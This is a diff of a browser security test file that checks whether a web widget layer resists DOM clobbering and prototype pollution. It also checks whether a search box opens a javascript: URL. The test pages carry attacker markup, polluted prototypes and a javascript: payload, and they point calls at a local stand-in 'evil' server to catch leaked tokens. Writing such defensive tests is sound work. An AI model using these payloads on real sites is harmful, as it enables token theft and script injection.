@@ -1,22 +1,22 @@
-/** S52: markup that names what the layer reads, and prototypes that were given what it looks up. */
+/** S52: pages whose markup or prototypes replace what the layer reads. */
 import assert from 'node:assert/strict'
 import {createServer} from 'node:http'
 import {test} from 'node:test'
-import {browsers, world} from './harness.mjs'
+import {browsers, harness} from './harness.mjs'
 
-/** What every page has; results with an id, since a search box looks for them by it. */
+/** The content of every page. The results have an id, by which a search box finds them. */
 const widgets = `<stile-search for="r" label="Find"></stile-search><stile-results id="r" query="cake"></stile-results>
   <stile-list collection="recipes"></stile-list><stile-item item="plum-cake"></stile-item>`
 
-/** Configuration as an attacker writes it into markup: calls go to their server. */
+/** Settings that an attacker writes into markup, to send calls to another server. */
 const theirs = ({evil, client}) => `data-api="${evil}" data-client-id="${client}" data-token-url="/stile/token"`
 
-/** The text of an attribute. */
+/** Returns the text of an attribute. */
 const quoted = text => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
 
 /**
- * The pages. html comes before the layer, which a script adds once the page has loaded; file is which
- * of its files, configured is what the page's own script says to it, pollute runs before anything else.
+ * The pages. html precedes the layer, which a script adds when the page has loaded. file is the
+ * layer's file. configured contains the settings by the page's own script. pollute runs first.
  */
 const pages = {
   'img name=currentScript': {html: o => `<img name="currentScript" src="${o.evil}/widgets/v1/stile.js" ${theirs(o)}>`},
@@ -52,7 +52,9 @@ const pages = {
   'Object.prototype.tag, sort, collection': {pollute: () => ({tag: 'evil', sort: 'evil', collection: 'evil'})},
 }
 
-/** Another server: it notes what it gets, and answers as a hostile API would. Its script leaves a trace. */
+/**
+ * Another server. It records its requests, and responds like a hostile API. Its script sets a flag.
+ */
 async function hostile(t) {
   const got = []
   const server = createServer(async (request, response) => {
@@ -66,12 +68,12 @@ async function hostile(t) {
   return {origin: `http://127.0.0.1:${server.address().port}`, got}
 }
 
-/** Runs in the page before anything else. */
+/** Runs in the page first. */
 function given(members) {
   for (const [name, value] of Object.entries(members)) Object.prototype[name] = value
 }
 
-/** Runs in the page: adds the layer when the page has loaded, as a script of the page's does. */
+/** Runs in the page: adds the layer when the page has loaded, like a script of the page. */
 const added = ({src, data, configured}) => `<script>{
   const own = (o, f, ...a) => Document.prototype[f].call(o, ...a)
   addEventListener('load', () => {
@@ -84,7 +86,7 @@ const added = ({src, data, configured}) => `<script>{
   })
 }</script>`
 
-/** Runs in the page: what the widgets show, whatever the document's members are. */
+/** Runs in the page: returns what the widgets show, even if the document is clobbered. */
 function texts() {
   const all = selector => [...Document.prototype.querySelectorAll.call(document, selector)]
   const shown = all('stile-results, stile-list, stile-item').map(e => e.shadowRoot?.textContent ?? '').join('\n')
@@ -92,8 +94,8 @@ function texts() {
 }
 
 for (const browser of browsers)
-  test(`S52 ${browser.name}: of ${Object.keys(pages).length} clobbered pages, none loses a token or runs a script, and all show their content`, {timeout: 600_000}, async t => {
-    const w = await world(t, browser)
+  test(`S52 ${browser.name}: none of ${Object.keys(pages).length} clobbered pages loses a token or runs a script, and all show their content`, {timeout: 600_000}, async t => {
+    const w = await harness(t, browser)
     const evil = await hostile(t)
     const o = {api: w.api.origin, evil: evil.origin, client: w.client.id}
     for (const [name, is] of Object.entries(pages))
@@ -108,15 +110,15 @@ for (const browser of browsers)
         const found = await shown(page)
         await page.browserContext().close()
         const lost = evil.got.filter(line => /access_token|callback|^\/(v1|stile)\//.test(line) || w.tokens.some(token => line.includes(token)))
-        assert.deepEqual(lost.map(line => line.split(/[? ]/)[0]), [], 'the other server got something')
-        assert.deepEqual(w.api.calls('/v1/').filter(call => [...call.form.values()].includes('evil')).map(call => call.path), [], 'something of the attacker was sent')
+        assert.deepEqual(lost.map(line => line.split(/[? ]/)[0]), [], 'the other server received a request')
+        assert.deepEqual(w.api.calls('/v1/').filter(call => [...call.form.values()].includes('evil')).map(call => call.path), [], 'a value of the attacker was sent')
         assert.equal(found.ran, false, 'a script of the other server ran')
         assert.equal(found.get, 'function', 'Stile is the layer')
         assert.ok(found.done, `the content is shown\n${w.watch.complaints.join('\n')}`)
       })
   })
 
-/** Waits until the content is there, or a few seconds. */
+/** Waits a few seconds for the content. */
 async function shown(page) {
   for (const end = Date.now() + 5_000; ;) {
     const found = await page.evaluate(texts)
@@ -126,8 +128,8 @@ async function shown(page) {
 }
 
 for (const browser of browsers) {
-  test(`S52 ${browser.name}: a search box leads to no javascript: URL`, async t => {
-    const w = await world(t, browser)
+  test(`S52 ${browser.name}: a search box does not open a javascript: URL`, async t => {
+    const w = await harness(t, browser)
     const page = await w.open(`${w.script()}<stile-search label="Find" action="javascript:globalThis.ran=1//"></stile-search>`)
     await w.until(page, () => document.querySelector('stile-search').shadowRoot?.querySelector('button[type=submit]')?.textContent)
     await page.evaluate(() => {
@@ -139,8 +141,8 @@ for (const browser of browsers) {
     assert.equal(await page.evaluate(() => globalThis.ran), undefined)
   })
 
-  test(`S52 ${browser.name}: the dialog for pictures opens on a clobbered page, and runs no handler of Object.prototype's`, async t => {
-    const w = await world(t, browser, {settings: {STILE_POLICY_SPIKE_CALLS: 1, STILE_POLICY_CHALLENGE_LADDER: 'picture'}})
+  test(`S52 ${browser.name}: the dialog for pictures opens on a clobbered page, and runs no handler of Object.prototype`, async t => {
+    const w = await harness(t, browser, {settings: {STILE_POLICY_SPIKE_CALLS: 1, STILE_POLICY_CHALLENGE_LADDER: 'picture'}})
     let asked = 0
     w.api.intercept = call => call.path.endsWith('.png') && ++asked ? {status: 404, type: 'text/plain', body: 'no'} : undefined
     const html = '<form name="body"><input name="append"></form><img name="createElement"><img name="hidden"><img name="head">'
